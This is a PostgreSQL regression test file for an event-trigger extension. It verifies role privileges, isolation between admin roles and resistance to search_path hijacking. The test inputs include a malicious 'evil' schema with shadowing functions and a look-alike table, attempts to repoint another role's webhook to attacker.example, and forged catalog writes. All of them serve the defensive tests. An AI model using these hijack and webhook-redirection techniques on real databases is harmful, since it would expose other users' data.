-- 06_privileges: who may create event triggers and call the API; writers of a table with an
-- event trigger need no rights on the catalog; search_path cannot redirect capture.
SET TimeZone = 'UTC';
TRUNCATE hdb_catalog.event_log;

CREATE ROLE regress_he_owner LOGIN;          -- owns a table, not an admin
CREATE ROLE regress_he_admin_owner LOGIN;    -- owns a table, granted hasura_events_admin
CREATE ROLE regress_he_admin LOGIN;          -- admin, owns nothing
CREATE ROLE regress_he_writer LOGIN;         -- may write a table, nothing else
GRANT hasura_events_admin TO regress_he_admin_owner, regress_he_admin;
GRANT CREATE ON SCHEMA public TO regress_he_owner, regress_he_admin_owner;

-- Nothing is open to PUBLIC: schemas, tables, functions.
SELECT n.nspname, a.privilege_type,
       CASE WHEN a.grantee = n.nspowner THEN '(schema owner)' ELSE a.grantee::regrole::text END AS grantee
FROM pg_namespace n, aclexplode(n.nspacl) a
WHERE n.nspname IN ('hdb_catalog', 'hasura_events') ORDER BY 1, 3, 2;
SELECT count(*) AS public_table_grants
FROM pg_class c, aclexplode(c.relacl) a
WHERE c.relnamespace IN ('hdb_catalog'::regnamespace, 'hasura_events'::regnamespace) AND a.grantee = 0;
SELECT count(*) AS public_function_grants
FROM pg_proc p, aclexplode(coalesce(p.proacl, acldefault('f', p.proowner))) a
WHERE p.pronamespace = 'hasura_events'::regnamespace AND a.grantee = 0;
SELECT has_table_privilege('regress_he_writer', 'hdb_catalog.event_log', 'SELECT') AS writer_select,
       has_table_privilege('regress_he_writer', 'hdb_catalog.event_log', 'INSERT') AS writer_insert,
       has_schema_privilege('regress_he_writer', 'hdb_catalog', 'USAGE') AS writer_usage,
       has_function_privilege('regress_he_writer', 'hasura_events.metadata(jsonb)', 'EXECUTE') AS writer_execute,
       has_table_privilege('regress_he_admin', 'hdb_catalog.event_log', 'SELECT') AS admin_select,
       has_function_privilege('regress_he_admin', 'hasura_events.metadata(jsonb)', 'EXECUTE') AS admin_execute;

SET ROLE regress_he_owner;
CREATE TABLE public.priv_owner_tbl (id int PRIMARY KEY, v text);
RESET ROLE;
SET ROLE regress_he_admin_owner;
CREATE TABLE public.priv_admin_tbl (id int PRIMARY KEY, v text);
GRANT INSERT, UPDATE, SELECT ON public.priv_admin_tbl TO regress_he_writer;
RESET ROLE;

-- The owner of a table without the admin role cannot call the API at all.
SET ROLE regress_he_owner;
SELECT try_md('{"type": "pg_create_event_trigger", "args": {"name": "priv_owner", "table": "priv_owner_tbl",
  "webhook": "http://h/", "insert": {"columns": "*"}}}');
SELECT try_sql($$SELECT hasura_events.create_event_trigger('{}')::text$$);
SELECT try_sql($$SELECT count(*) FROM hdb_catalog.event_log$$);
RESET ROLE;

-- An admin who does not own the table cannot create an event trigger on it.
SET ROLE regress_he_admin;
SELECT try_md('{"type": "pg_create_event_trigger", "args": {"name": "priv_not_owner", "table": "priv_owner_tbl",
  "webhook": "http://h/", "insert": {"columns": "*"}}}');
SELECT try_md('{"type": "pg_create_event_trigger", "args": {"name": "priv_not_owner", "table": "priv_admin_tbl",
  "webhook": "http://h/", "insert": {"columns": "*"}}}');
RESET ROLE;
SELECT count(*) AS event_triggers FROM hasura_events.event_triggers WHERE name LIKE 'priv%';

-- An admin who owns the table can, with every option.
SET ROLE regress_he_admin_owner;
SELECT hasura_events.metadata('{"type": "pg_create_event_trigger", "args": {"name": "priv_admin",
  "table": "priv_admin_tbl", "webhook": "http://h/", "insert": {"columns": "*"}, "update": {"columns": ["v"]},
  "enable_manual": true}}');
SELECT hasura_events.metadata('{"type": "pg_create_event_trigger", "args": {"name": "priv_admin_repl",
  "table": "priv_admin_tbl", "webhook": "http://h/", "delete": {"columns": "*"}, "trigger_on_replication": true}}');
SELECT hasura_events.metadata('{"type": "pg_invoke_event_trigger", "args": {"name": "priv_admin", "payload": {"by": "admin"}}}') ? 'event_id' AS invoked;
RESET ROLE;
SELECT tgname, tgenabled FROM pg_trigger WHERE tgrelid = 'priv_admin_tbl'::regclass AND NOT tgisinternal ORDER BY 1;

-- Another admin cannot delete it: to a role that does not own the table it does not exist.
SET ROLE regress_he_admin;
SELECT try_md('{"type": "pg_delete_event_trigger", "args": {"name": "priv_admin_repl"}}');
RESET ROLE;

-- A plain writer of the table writes events without any right on hdb_catalog.
SET ROLE regress_he_writer;
INSERT INTO priv_admin_tbl VALUES (1, 'by writer');
UPDATE priv_admin_tbl SET v = 'updated by writer';
SELECT try_sql($$SELECT count(*) FROM hdb_catalog.event_log$$);
SELECT try_sql($$INSERT INTO hdb_catalog.event_log (schema_name, table_name, trigger_name, payload) VALUES ('a', 'b', 'c', '{}') RETURNING id$$);
SELECT try_sql($$SELECT hasura_events.capture()::text$$);
RESET ROLE;
SELECT trigger_name, payload->>'op' AS op, payload->'data'->'new' AS new FROM hdb_catalog.event_log ORDER BY 1, 2;
TRUNCATE hdb_catalog.event_log;

-- A malicious search_path does not affect capture: a user-defined unnest, a look-alike
-- event_log and jsonb functions earlier in the path are never used.
CREATE SCHEMA evil AUTHORIZATION regress_he_writer;
SET ROLE regress_he_writer;
CREATE FUNCTION evil.unnest(anyarray) RETURNS SETOF anyelement LANGUAGE plpgsql AS
$$ BEGIN RAISE EXCEPTION 'evil.unnest called'; END $$;
CREATE FUNCTION evil.row_to_json(record) RETURNS json LANGUAGE plpgsql AS
$$ BEGIN RAISE EXCEPTION 'evil.row_to_json called'; END $$;
CREATE FUNCTION evil.gen_random_uuid() RETURNS uuid LANGUAGE sql AS $$ SELECT '00000000-0000-0000-0000-000000000000'::uuid $$;
CREATE TABLE evil.event_log (id text, schema_name text, table_name text, trigger_name text, payload jsonb);
GRANT USAGE ON SCHEMA evil TO PUBLIC;
GRANT ALL ON evil.event_log TO PUBLIC;
RESET ROLE;
SET ROLE regress_he_writer;
SET search_path = evil, pg_temp, public, pg_catalog;
CREATE TEMP TABLE event_log (id text, schema_name text, table_name text, trigger_name text, payload jsonb);
INSERT INTO priv_admin_tbl VALUES (2, 'with evil path');
INSERT INTO priv_admin_tbl SELECT g, 'bulk ' || g FROM generate_series(3, 1502) g;
SELECT (SELECT count(*) FROM evil.event_log) AS evil_rows, (SELECT count(*) FROM pg_temp.event_log) AS temp_rows;
RESET search_path;
RESET ROLE;
SELECT count(*) AS events, count(*) FILTER (WHERE id = '00000000-0000-0000-0000-000000000000') AS fake_ids,
       count(DISTINCT id) AS distinct_ids
FROM hdb_catalog.event_log WHERE trigger_name = 'priv_admin';
SELECT payload FROM hdb_catalog.event_log WHERE payload->'data'->'new'->>'id' = '2';
TRUNCATE hdb_catalog.event_log;

-- The admin role can be granted to others, and revoked.
GRANT hasura_events_admin TO regress_he_owner;
SET ROLE regress_he_owner;
SELECT hasura_events.metadata('{"type": "pg_create_event_trigger", "args": {"name": "priv_owner", "table": "priv_owner_tbl",
  "webhook": "http://h/", "insert": {"columns": "*"}}}');
RESET ROLE;
REVOKE hasura_events_admin FROM regress_he_owner;
-- without the role the owner cannot use the API any more, but writing the table still records events
SET ROLE regress_he_owner;
SELECT try_md('{"type": "pg_get_event_logs", "args": {"name": "priv_owner"}}');
INSERT INTO priv_owner_tbl VALUES (1, 'after revoke');
-- and a non-admin owner can still drop or rename the table (the DDL hooks run as the extension owner)
ALTER TABLE priv_owner_tbl RENAME TO priv_owner_renamed;
RESET ROLE;
SELECT name, table_name FROM hasura_events.event_triggers WHERE name = 'priv_owner';
SET ROLE regress_he_owner;
DROP TABLE priv_owner_renamed;
RESET ROLE;
SELECT count(*) AS definitions_left FROM hasura_events.event_triggers WHERE name = 'priv_owner';
SELECT trigger_name, archived, payload->'data'->'new' AS new FROM hdb_catalog.event_log;
TRUNCATE hdb_catalog.event_log;

-- Two admins, each the owner of one table: each sees and changes only the event triggers, events
-- and invocation logs of its own table. A trigger or event of another role's table is answered
-- as a missing one (42704), so that its existence is not told; only create tells that a name is
-- taken (42710), as names are unique in the database. Direct changes of the catalog are refused
-- to every admin (42501, Postgres's permission check), on its own rows too.
CREATE ROLE regress_he_a LOGIN;
CREATE ROLE regress_he_b LOGIN;
CREATE ROLE regress_he_a_member LOGIN;   -- member of regress_he_a (so an admin too), owns nothing
GRANT hasura_events_admin TO regress_he_a, regress_he_b;
GRANT regress_he_a TO regress_he_a_member;
GRANT CREATE ON SCHEMA public TO regress_he_a, regress_he_b;
SET ROLE regress_he_a;
CREATE TABLE public.priv_a_tbl (id int PRIMARY KEY, v text);
SELECT hasura_events.metadata('{"type": "pg_create_event_trigger", "args": {"name": "priv_a", "table": "priv_a_tbl",
  "webhook": "http://a.example/", "insert": {"columns": "*"}, "enable_manual": true}}');
INSERT INTO priv_a_tbl VALUES (1, 'row of a');
RESET ROLE;
SET ROLE regress_he_b;
CREATE TABLE public.priv_b_tbl (id int PRIMARY KEY, v text);
SELECT hasura_events.metadata('{"type": "pg_create_event_trigger", "args": {"name": "priv_b", "table": "priv_b_tbl",
  "webhook": "http://b.example/", "insert": {"columns": "*"}, "enable_manual": true,
  "headers": [{"name": "X-Secret", "value_from_env": "B_SECRET"}]}}');
INSERT INTO priv_b_tbl VALUES (1, 'secret row of b');
-- B's SECURITY DEFINER function that acts on whatever trigger it is given: called by A, it acts
-- for B (current_user), not for A (the role that called it) nor the session's user (a superuser)
CREATE FUNCTION public.priv_b_deputy(trigger_name text) RETURNS text LANGUAGE sql SECURITY DEFINER AS
$$ SELECT hasura_events.delete_event_trigger(trigger_name)::text $$;
GRANT EXECUTE ON FUNCTION public.priv_b_deputy(text) TO regress_he_a;
RESET ROLE;
-- one failed attempt each, so that both events are dead and have an invocation log
UPDATE hdb_catalog.event_log SET error = true, tries = 1 WHERE trigger_name IN ('priv_a', 'priv_b');
INSERT INTO hdb_catalog.event_invocation_logs (trigger_name, event_id, status, request, response)
SELECT trigger_name, id, 500, '{}', '{"type": "webhook_response", "data": {"message": "boom"}}'
FROM hdb_catalog.event_log WHERE trigger_name IN ('priv_a', 'priv_b');
SELECT id AS a_event FROM hdb_catalog.event_log WHERE trigger_name = 'priv_a' \gset
SELECT id AS b_event FROM hdb_catalog.event_log WHERE trigger_name = 'priv_b' \gset

SET ROLE regress_he_a;
-- A reads its own rows only: definitions, events, invocation logs, the views, the queue figures
SELECT name, webhook FROM hasura_events.event_triggers ORDER BY 1;
SELECT trigger_name, payload->'data'->'new' AS new FROM hdb_catalog.event_log ORDER BY 1;
SELECT trigger_name, status FROM hdb_catalog.event_invocation_logs ORDER BY 1;
SELECT trigger_name, last_error FROM hasura_events.dead_events ORDER BY 1;
SELECT trigger_name, errored FROM hasura_events.trigger_status ORDER BY 1;
SELECT name, errored FROM hasura_events._queue_stats() ORDER BY 1;
-- B's trigger and event through every API: as if they did not exist
SELECT try_md('{"type": "pg_get_event_logs", "args": {"name": "priv_b"}}');
SELECT try_md('{"type": "pg_get_event_invocation_logs", "args": {"name": "priv_b"}}');
SELECT replace(try_md(jsonb_build_object('type', 'pg_get_event_by_id', 'args', jsonb_build_object('event_id', :'b_event'))),
               :'b_event', '<id of b''s event>') AS try_md;
SELECT replace(try_md(jsonb_build_object('type', 'pg_redeliver_event', 'args', jsonb_build_object('event_id', :'b_event'))),
               :'b_event', '<id of b''s event>') AS try_md;
SELECT try_md('{"type": "pg_invoke_event_trigger", "args": {"name": "priv_b", "payload": {"forged": true}}}');
SELECT try_md('{"type": "pg_delete_event_trigger", "args": {"name": "priv_b"}}');
SELECT try_sql($$SELECT hasura_events.get_event_logs('priv_b')::text$$);
SELECT replace(try_sql(format('SELECT hasura_events.get_event_by_id(%L)::text', :'b_event')), :'b_event', '<id of b''s event>')
       AS try_sql;
-- create over B's trigger, with or without replace, on A's table or on B's
SELECT try_md('{"type": "pg_create_event_trigger", "args": {"name": "priv_b", "table": "priv_a_tbl",
  "webhook": "http://attacker.example/", "insert": {"columns": "*"}, "replace": true}}');
SELECT try_md('{"type": "pg_create_event_trigger", "args": {"name": "priv_b", "table": "priv_a_tbl",
  "webhook": "http://attacker.example/", "insert": {"columns": "*"}}}');
SELECT try_md('{"type": "pg_create_event_trigger", "args": {"name": "priv_b", "table": "priv_b_tbl",
  "webhook": "http://attacker.example/", "insert": {"columns": "*"}, "replace": true}}');
-- B's SECURITY DEFINER function acts for B: it cannot delete A's trigger for B
SELECT try_sql($$SELECT public.priv_b_deputy('priv_a')$$);
-- no direct change of the catalog, not even of A's own rows
SELECT try_sql($$UPDATE hasura_events.event_triggers SET webhook = 'http://attacker.example/' WHERE name = 'priv_b' RETURNING name$$);
SELECT try_sql($$UPDATE hasura_events.event_triggers SET webhook = 'not a url' WHERE name = 'priv_a' RETURNING name$$);
SELECT try_sql($$INSERT INTO hasura_events.event_triggers (name, schema_name, table_name, webhook, enable_manual, definition)
                 VALUES ('priv_x', 'public', 'priv_a_tbl', 'http://x/', true, '{}') RETURNING name$$);
SELECT try_sql($$DELETE FROM hasura_events.event_triggers RETURNING name$$);
SELECT try_sql($$INSERT INTO hdb_catalog.event_log (schema_name, table_name, trigger_name, payload)
                 VALUES ('public', 'priv_b_tbl', 'priv_b', '{}') RETURNING id$$);
SELECT try_sql($$UPDATE hdb_catalog.event_log SET delivered = true RETURNING id$$);
SELECT try_sql($$DELETE FROM hdb_catalog.event_log RETURNING id$$);
SELECT try_sql($$INSERT INTO hdb_catalog.event_invocation_logs (trigger_name, event_id) VALUES ('priv_b', 'x') RETURNING id$$);
SELECT try_sql($$UPDATE hdb_catalog.event_invocation_logs SET status = 200 RETURNING id$$);
SELECT try_sql($$DELETE FROM hdb_catalog.event_invocation_logs RETURNING id$$);
TRUNCATE hdb_catalog.event_log, hdb_catalog.event_invocation_logs, hasura_events.event_triggers;
-- nor through the functions behind the API, nor with a capture trigger of its own that names B's
SELECT try_sql($$SELECT hasura_events._create_event_trigger('{}')::text$$);
SELECT try_sql($$SELECT hasura_events._delete_event_trigger('priv_b')::text$$);
SELECT try_sql(format('SELECT hasura_events._redeliver_event(%L)::text', :'b_event'));
SELECT try_sql($$SELECT hasura_events._invoke_event_trigger('priv_b', '{}')::text$$);
SELECT try_sql($$SELECT hasura_events._archive_events(ARRAY['priv_b'])::text$$);
SELECT try_sql($$SELECT hasura_events._drop_pg_triggers('priv_b')::text$$);
CREATE TRIGGER priv_forge AFTER INSERT ON priv_a_tbl FOR EACH ROW EXECUTE FUNCTION hasura_events.capture('priv_b', '*', '*');
-- A does all of it for its own table
SELECT jsonb_array_length(hasura_events.metadata('{"type": "pg_get_event_logs", "args": {"name": "priv_a"}}')) AS a_events;
SELECT jsonb_array_length(hasura_events.metadata('{"type": "pg_get_event_invocation_logs", "args": {"name": "priv_a"}}')) AS a_invocations;
SELECT hasura_events.metadata(jsonb_build_object('type', 'pg_get_event_by_id', 'args', jsonb_build_object('event_id', :'a_event')))
       #> '{event,trigger_name}' AS a_event_by_id;
SELECT hasura_events.metadata(jsonb_build_object('type', 'pg_redeliver_event', 'args', jsonb_build_object('event_id', :'a_event')));
SELECT hasura_events.metadata('{"type": "pg_invoke_event_trigger", "args": {"name": "priv_a", "payload": {"by": "a"}}}') ? 'event_id' AS invoked;
SELECT hasura_events.metadata('{"type": "pg_create_event_trigger", "args": {"name": "priv_a", "table": "priv_a_tbl",
  "webhook": "http://a2.example/", "insert": {"columns": "*"}, "enable_manual": true, "replace": true}}');
RESET ROLE;
-- a member of A's role is as A: it sees and changes A's trigger
SET ROLE regress_he_a_member;
SELECT name, webhook FROM hasura_events.event_triggers ORDER BY 1;
SELECT hasura_events.metadata('{"type": "pg_invoke_event_trigger", "args": {"name": "priv_a", "payload": {"by": "member"}}}') ? 'event_id' AS invoked;
RESET ROLE;
-- B sees its own, untouched: its webhook, its header, its event (not redelivered) and its log
SET ROLE regress_he_b;
SELECT name, webhook, headers FROM hasura_events.event_triggers ORDER BY 1;
SELECT trigger_name, error, tries, payload->'data'->'new' AS new FROM hdb_catalog.event_log ORDER BY 1;
SELECT trigger_name, status FROM hdb_catalog.event_invocation_logs ORDER BY 1;
SELECT hasura_events.metadata('{"type": "pg_delete_event_trigger", "args": {"name": "priv_b"}}');
RESET ROLE;
-- a superuser sees every row
SELECT trigger_name, error, archived, payload->'data'->'new' AS new FROM hdb_catalog.event_log
WHERE trigger_name IN ('priv_a', 'priv_b') ORDER BY 1, created_at;
SELECT name, webhook FROM hasura_events.event_triggers WHERE name IN ('priv_a', 'priv_b');
-- the functions hasura_events_admin may execute (a new one shows up here: decide whether it may)
SELECT p.oid::regprocedure AS admin_may_execute FROM pg_proc p
WHERE p.pronamespace = 'hasura_events'::regnamespace AND has_function_privilege('hasura_events_admin', p.oid, 'EXECUTE')
ORDER BY 1::text;
SELECT p.oid::regprocedure AS only_through_the_api FROM pg_proc p
WHERE p.pronamespace = 'hasura_events'::regnamespace AND NOT has_function_privilege('hasura_events_admin', p.oid, 'EXECUTE')
ORDER BY 1::text;
-- the writing functions are SECURITY DEFINER with a fixed search_path; the entries are not
SELECT p.oid::regprocedure AS function, p.prosecdef, p.proconfig FROM pg_proc p
WHERE p.pronamespace = 'hasura_events'::regnamespace AND (p.prosecdef OR p.prosrc = 'hasura_events_api_call')
ORDER BY 1::text;
DROP TABLE priv_a_tbl, priv_b_tbl;
DROP FUNCTION public.priv_b_deputy(text);
DROP OWNED BY regress_he_a, regress_he_b, regress_he_a_member;
DROP ROLE regress_he_a_member, regress_he_a, regress_he_b;
TRUNCATE hdb_catalog.event_log;
TRUNCATE hdb_catalog.event_invocation_logs;

-- Clean up (priv_admin_tbl and its owner stay for the last test file).
DROP SCHEMA evil CASCADE;
